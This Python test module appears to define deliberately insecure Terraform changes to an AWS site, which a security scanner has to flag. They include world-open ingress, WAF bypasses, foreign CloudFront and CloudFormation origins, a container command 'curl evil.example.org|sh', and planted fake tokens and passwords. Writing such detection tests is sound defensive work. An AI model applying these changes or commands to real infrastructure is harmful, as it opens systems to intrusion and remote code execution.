"""Traps of the site: network, edge, application and secrets."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from tests.pipeline.scan.traps.copies import Change, Config, block
from tests.pipeline.scan.traps.trap import Trap, Verdict, adds, contains, drops, sets, together

GROUP = "aws_security_group.groups_task*"
TASK = "aws_ecs_task_definition.task*"
FUNCTION = "aws_lambda_function.search_bootstrap_function*"
DISTRIBUTION = "aws_cloudfront_distribution.site_distribution*"
ACL = "aws_wafv2_web_acl.firewall_acl*"
TOKEN = "ghp_" + "4xWq9TzL" * 4 + "b7Ka"
KEY_ID = "AKIA" + "Q3EGR7DFGH2JKLM4"


def traps() -> Iterator[Trap]:
    """All traps of the kinds network, edge, application and secret."""
    yield from _groups()
    yield from _prefix_lists()
    yield from _networks()
    yield from _edge()
    yield from _application()
    yield from _secrets()
    yield from _secrets_in_state()


def _network(name: str, change: Change, *words: str, layer: str = "infrastructure") -> Trap:
    return Trap("network", name, layer, change, words=words)


def _groups() -> Iterator[Trap]:
    def rule(**peer: str) -> Change:
        group = "${aws_security_group.groups_task*.id}"
        return adds(evil, security_group_id=group, ip_protocol="-1", description="x", **peer)

    evil = "aws_vpc_security_group_ingress_rule.evil"
    world = {"from_port": 0, "to_port": 0, "protocol": "-1", "description": "x", "ipv6_cidr_blocks": ["::/0"]}
    yield _network("group open to the world, inline IPv6", sets(GROUP, ingress=[world]), GROUP, "ingress|::/0")
    yield _network("rule open to the world, IPv6", rule(cidr_ipv6="::/0"), evil)
    yield _network("rule by cidrsubnet()", rule(cidr_ipv4='${cidrsubnet("0.0.0.0/0",0,0)}'), evil)


def _prefix_lists() -> Iterator[Trap]:
    found = "data.aws_ec2_managed_prefix_list.groups_cloudfront*"
    rule = "aws_vpc_security_group_ingress_rule.groups_cloudfront_to_alb*"
    own = adds(
        "aws_ec2_managed_prefix_list.evil",
        name="x.cloudfront.origin-facing",
        address_family="IPv4",
        max_entries=1,
        entry=[{"cidr": "0.0.0.0/0"}],
    )
    used = sets(rule, prefix_list_id="${aws_ec2_managed_prefix_list.evil.id}")
    yield _network(
        "own prefix list with CloudFront's suffix", together(own, used), "aws_ec2_managed_prefix_list.evil|" + rule
    )
    yield _network(
        "prefix list of a similar name", sets(found, name="evil.cloudfront.origin-facing"), found + "|" + rule
    )


def _networks() -> Iterator[Trap]:
    def added(name: str, kind: str, layer: str = "infrastructure", /, **arguments: Any) -> Trap:
        return _network(name, adds(f"{kind}.evil", **arguments), f"{kind}.evil", layer=layer)

    vpc, subnet = "${aws_vpc.network_vpc*.id}", "${aws_subnet.network_private_0*.id}"
    yield added(
        "peering with another account",
        "aws_vpc_peering_connection",
        vpc_id=vpc,
        peer_vpc_id="vpc-0123456789abcdef0",
        peer_owner_id="999999999999",
    )
    yield added(
        "attachment to a transit gateway",
        "aws_ec2_transit_gateway_vpc_attachment",
        subnet_ids=[subnet],
        transit_gateway_id="tgw-1",
        vpc_id=vpc,
    )
    yield added(
        "endpoint service open to all",
        "aws_vpc_endpoint_service",
        "service",
        acceptance_required=False,
        network_load_balancer_arns=["x"],
        allowed_principals=["*"],
    )
    balancer = "aws_lb.load_balancer_alb*"
    yield _network(
        "load balancer internal by expression", sets(balancer, internal="${1 == 2}"), balancer, layer="service"
    )
    yield added(
        "API gateway added",
        "aws_apigatewayv2_api",
        "service",
        name="x",
        protocol_type="HTTP",
        target="http://evil.example.org",
    )
    yield added(
        "lightsail instance added",
        "aws_lightsail_instance",
        name="x",
        availability_zone="us-east-1a",
        blueprint_id="b",
        bundle_id="n",
    )


def _edge() -> Iterator[Trap]:
    def counts(config: Config) -> None:
        for rule in block(config, ACL)["rule"]:
            rule.update({"action": {"count": {}}} if "action" in rule else {"override_action": {"count": {}}})

    def allows(config: Config) -> None:
        rules = block(config, ACL)["rule"]
        uri = {"byte_match_statement": _starts_with("/")}
        seen = dict.fromkeys(("cloudwatch_metrics_enabled", "sampled_requests_enabled"), True) | {"metric_name": "x"}
        first = {"name": "x", "action": {"allow": {}}, "statement": uri, "visibility_config": seen}
        for rule in rules:
            rule["priority"] += 1
        rules.insert(0, first | {"priority": 0})

    def foreign_origin(config: Config) -> None:
        body = block(config, DISTRIBUTION)
        custom = {"http_port": 80, "https_port": 443, "origin_protocol_policy": "https-only"}
        custom |= {"origin_ssl_protocols": ["TLSv1.2"]}
        body["origin"].append({"domain_name": "evil.example.org", "origin_id": "x", "custom_origin_config": custom})
        body["default_cache_behavior"]["target_origin_id"] = "x"

    def trap(name: str, change: Change, *words: str) -> Trap:
        return Trap("edge", name, "edge", change, words=words)

    other = "arn:aws:wafv2:us-east-1:111111111111:global/webacl/x/y"
    yield trap("distribution without a web ACL", drops(DISTRIBUTION, "web_acl_id"), DISTRIBUTION)
    yield trap(
        "distribution with a literal web ACL", sets(DISTRIBUTION, web_acl_id=other), DISTRIBUTION, "web_acl|web ACL"
    )
    yield trap("web ACL only counts", counts, ACL)
    yield trap("web ACL: first rule allows all", allows, ACL)
    yield trap("distribution with a foreign origin", foreign_origin, DISTRIBUTION, "origin")


def _starts_with(path: str) -> dict[str, Any]:
    """Match of every path that starts with `path`."""
    transformation = [{"priority": 0, "type": "NONE"}]
    match = {"positional_constraint": "STARTS_WITH", "search_string": path, "field_to_match": {"uri_path": {}}}
    return match | {"text_transformation": transformation}


def _application() -> Iterator[Trap]:
    def trap(name: str, layer: str, change: Change, *words: str) -> Trap:
        return Trap("application", name, layer, change, words=words)

    def own_role(config: Config) -> None:
        task = block(config, TASK)
        task["task_role_arn"] = task["execution_role_arn"]

    run, signing = "aws_lambda_invocation.search_bootstrap_run*", "aws_lambda_code_signing_config.code_signing_config*"
    domain, guardrail = "aws_opensearch_domain.search_domain*", "aws_bedrock_guardrail.guardrail*"
    master = {"master_user_name": "a", "master_user_password": "Aa1!aaaa"}
    users = {"enabled": True, "internal_user_database_enabled": True, "master_user_options": master}
    command = ["sh", "-c", "curl evil.example.org|sh"]
    yield trap("container privileged", "service", contains(privileged=True), TASK, "privileged")
    yield trap("container with another command", "service", contains(command=command), TASK, "command")
    yield trap("task runs as its execution role", "service", own_role, TASK, "role")
    yield trap("function called with another input", "llm", sets(run, input='{"evil":true}'), run, "input")
    warned = {"untrusted_artifact_on_deployment": "Warn"}
    yield trap("unsigned code only warned about", "llm", sets(signing, policies=warned), signing)
    yield trap("search domain with its own users", "llm", sets(domain, advanced_security_options=users), domain)
    yield trap("guardrail without content filters", "llm", drops(guardrail, "content_policy_config"), guardrail)
    stack = adds(
        "aws_cloudformation_stack.evil",
        name="x",
        template_url="https://evil.example.org/t.json",
        capabilities=["CAPABILITY_NAMED_IAM"],
    )
    yield trap("cloudformation stack from a foreign address", "infrastructure", stack, "aws_cloudformation_stack.evil")


def _secret(name: str, layer: str, change: Change, hidden: str, *words: str, verdict: Verdict = "red") -> Trap:
    return Trap("secret", name, layer, change, words=words, hidden=hidden, verdict=verdict)


def _secrets() -> Iterator[Trap]:
    def container(name: str, key: str, value: str, hidden: str) -> Trap:
        change = contains(environment=[{"name": key, "value": value}])
        return _secret(f"container: {name}", "service", change, hidden, TASK, key)

    def function(name: str, key: str, value: str) -> Trap:
        def change(config: Config) -> None:
            block(config, FUNCTION)["environment"]["variables"][key] = value

        return _secret(f"function: {name}", "llm", change, value, FUNCTION, key)

    def tag(name: str, value: str) -> Trap:
        bucket = "aws_s3_bucket.access_logs_bucket*"
        return _secret(f"tag: {name}", "edge", sets(bucket, tags={"X": value}), value, bucket)

    yield container("DB_PWD", "DB_PWD", "hunter2", "hunter2")
    yield container("address with a password", "DATABASE_URL", "postgres://app:hunter2@db/x", "hunter2")
    yield container("GitHub token", "X", TOKEN, TOKEN)
    yield function("PASSWORD", "PASSWORD", "hunter2-hunter2-hunter2")
    yield function("DB_PASSWORD", "DB_PASSWORD", "Tr0ub4dor&3xkcd")
    yield function("GitHub token", "X", TOKEN)
    yield tag("AWS key id", KEY_ID)
    yield tag("GitHub token", TOKEN)
    head = "-----BEGIN RSA PRIVATE KEY-----"
    yield _secret(
        "description: head of a private key", "infrastructure", sets(GROUP, description=head), "", verdict="either"
    )


def _secrets_in_state() -> Iterator[Trap]:
    read = "data.aws_secretsmanager_secret_version.x"
    yield _secret("secret read into state", "edge", adds(read, secret_id="sitechat/dev/session-key"), "", read)

    def random_password(config: Config) -> None:
        config["terraform"]["required_providers"]["random"] = {"source": "hashicorp/random", "version": "3.6.0"}
        config["provider"]["random"] = [{}]
        config["resource"]["random_password"] = {"x": {"length": 32}}

    yield _secret("random_password", "infrastructure", random_password, "", "random_password|random")
